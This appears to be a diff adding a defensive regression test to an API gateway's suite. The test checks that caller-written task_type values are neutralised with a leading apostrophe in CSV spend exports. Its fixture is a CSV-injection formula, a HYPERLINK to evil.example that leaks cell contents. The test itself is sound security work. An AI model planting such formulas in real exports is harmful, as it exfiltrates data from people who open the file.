@@ -210,6 +210,24 @@ async def test_csv_matches_json(env: GatewayEnv) -> None:
         assert Decimal(line["cost_usd"]) == Decimal(row["cost_usd"])
 
 
+async def test_a_csv_cell_a_caller_wrote_cannot_be_a_spreadsheet_formula(env: GatewayEnv) -> None:
+    """``task_type`` is the caller's to write: an agent key must not plant a formula that runs in
+    the spreadsheet where an admin opens the export (CSV injection, OWASP). Such a cell is sent
+    with a leading apostrophe; the JSON keeps the value as written."""
+    planted = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
+    await env.openai().chat.completions.create(
+        model=OPENAI_MODEL, messages=HELLO, extra_body={"task_type": planted}
+    )
+    await _rows(env, 1)
+    params = {"group_by": "task_type"}
+    report = await _ok(await env.http.get(SPEND, params=params, headers=env.admin))
+    stored = planted.lower()  # task types are kept lower-cased; spreadsheets run it all the same
+    assert [row["group"]["task_type"] for row in report["rows"]] == [stored]
+    resp = await env.http.get(SPEND, params={**params, "format": "csv"}, headers=env.admin)
+    (line,) = list(csv.DictReader(io.StringIO(resp.text)))
+    assert line["task_type"] == "'" + stored
+
+
 async def test_a_tenant_admin_sees_only_their_tenants_spend(env: GatewayEnv) -> None:
     await _make_calls(env)
     rows = await _rows(env, 6)
